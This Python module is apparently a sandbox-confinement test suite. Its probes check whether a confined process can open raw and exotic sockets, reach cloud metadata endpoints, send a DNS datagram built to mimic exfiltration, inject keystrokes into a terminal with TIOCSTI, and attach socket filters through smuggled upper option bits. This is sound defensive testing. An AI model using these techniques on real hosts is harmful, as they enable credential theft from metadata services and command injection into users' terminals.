"""Families of sockets, addresses of clouds, terminals."""
import ctypes
import fcntl
import os
import socket
import struct
import termios

from probe import call, probe, register, word

FAMILIES = {
    "ax25": 3, "ipx": 4, "appletalk": 5, "netrom": 6, "x25": 9, "key": 15, "netlink": 16, "packet": 17,
    "rds": 21, "llc": 26, "can": 29, "tipc": 30, "bluetooth": 31, "rxrpc": 33, "phonet": 35, "alg": 38,
    "nfc": 39, "vsock": 40, "kcm": 41, "qipcrtr": 42, "smc": 43, "xdp": 44, "mctp": 45,
}
SO_ATTACH_FILTER, SO_ATTACH_REUSEPORT_CBPF = 26, 51
METADATA_4, METADATA_6, RESOLVER, ELSEWHERE = "169.254.169.254", "fd00:ec2::254", "8.8.8.8", "192.0.2.1"


def open_socket(family: int, kind: int, protocol: int = 0) -> str:
    return word(lambda: socket.socket(family, kind, protocol).close())


for name, family in FAMILIES.items():
    kind = socket.SOCK_SEQPACKET if name == "alg" else socket.SOCK_STREAM if name in ("smc", "vsock") else socket.SOCK_RAW
    register(f"family_{name}", lambda family=family, kind=kind: open_socket(family, kind))

register("family_netlink_dgram", lambda: open_socket(16, socket.SOCK_DGRAM))
register("raw_icmp", lambda: open_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
register("raw_icmp6", lambda: open_socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
register("raw_ip", lambda: open_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
register("plain_tcp", lambda: open_socket(socket.AF_INET, socket.SOCK_STREAM))
register("plain_unix", lambda: open_socket(socket.AF_UNIX, socket.SOCK_STREAM))


def connect(family: int, address: tuple) -> str:
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(5)
        client.connect(address)
    return "OK"


register("metadata_4", lambda: connect(socket.AF_INET, (METADATA_4, 80)))
register("metadata_6", lambda: connect(socket.AF_INET6, (METADATA_6, 80)))
register("elsewhere", lambda: connect(socket.AF_INET, (ELSEWHERE, 80)))


@probe
def metadata_mapped() -> str:
    """The same address as IPv6 writes it."""
    return connect(socket.AF_INET6, (f"::ffff:{METADATA_4}", 80))


@probe
def dns_packet() -> str:
    """One datagram to a resolver, as an exfiltration by DNS would send it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(5)
        client.sendto(b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x06secret\x07example\x00\x00\x01\x00\x01", (RESOLVER, 53))
        return "OK" if client.recv(512) else "empty"


@probe
def dns_name() -> str:
    """By the C library's resolver; outside, a hosts file of the scratch namespace knows the name."""
    try:
        socket.getaddrinfo("metadata.google.internal", 80)
    except socket.gaierror:
        return "no-name"
    return "OK"


@probe
def interfaces() -> str:
    with open("/proc/net/dev") as table:
        return ",".join(sorted(line.split(":")[0].strip() for line in table.readlines()[2:]))


@probe
def routes() -> str:
    """Lines of the routing table."""
    with open("/proc/net/route") as table:
        return str(len(table.readlines()) - 1)


@probe
def openpty() -> str:
    return word(lambda: os.openpty())


@probe
def dev_tty() -> str:
    return word(lambda: os.close(os.open("/dev/tty", os.O_RDWR)))


@probe
def tiocsti() -> str:
    """Types into the terminal on stdin; outside, a terminal of the probe's own."""
    terminal = 0
    if os.getuid() == 0:
        os.setsid()
        _, terminal = os.openpty()
        fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
    return word(lambda: fcntl.ioctl(terminal, termios.TIOCSTI, b"x"))


@probe
def tioclinux() -> str:
    """Paste into the console."""
    return word(lambda: fcntl.ioctl(0, 0x541C, b"\x02"))


# Filters of sockets are compiled into a store that all of this host share.
ACCEPT_ALL = struct.pack("=HBBI", 6, 0, 0, 0xFFFF)


def attach(option: int, upper: int = 0) -> str:
    """By number, with bits above those that the kernel looks at."""
    code = ctypes.create_string_buffer(ACCEPT_ALL)
    program = ctypes.create_string_buffer(struct.pack("@HP", 1, ctypes.addressof(code)))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as target:
        target.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        high = upper << 32
        return call("setsockopt", target.fileno(), high | socket.SOL_SOCKET, high | option, program, 16)


register("attach_filter", lambda: attach(SO_ATTACH_FILTER))
register("attach_filter_by_upper_bits", lambda: attach(SO_ATTACH_FILTER, 1))
register("attach_filter_to_group", lambda: attach(SO_ATTACH_REUSEPORT_CBPF))


@probe
def ordinary_options() -> str:
    """What programs set: must work."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as target:
        for option in ("SO_REUSEADDR", "SO_KEEPALIVE", "SO_BROADCAST", "SO_SNDBUF", "SO_RCVBUF", "SO_REUSEPORT", "SO_OOBINLINE"):
            target.setsockopt(socket.SOL_SOCKET, getattr(socket, option), 1)
        target.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("=ii", 1, 1))
        target.setsockopt(socket.SOL_SOCKET, 20, struct.pack("@qq", 1, 0))
        target.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        target.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, 16)
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as target:
        target.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    return "OK"
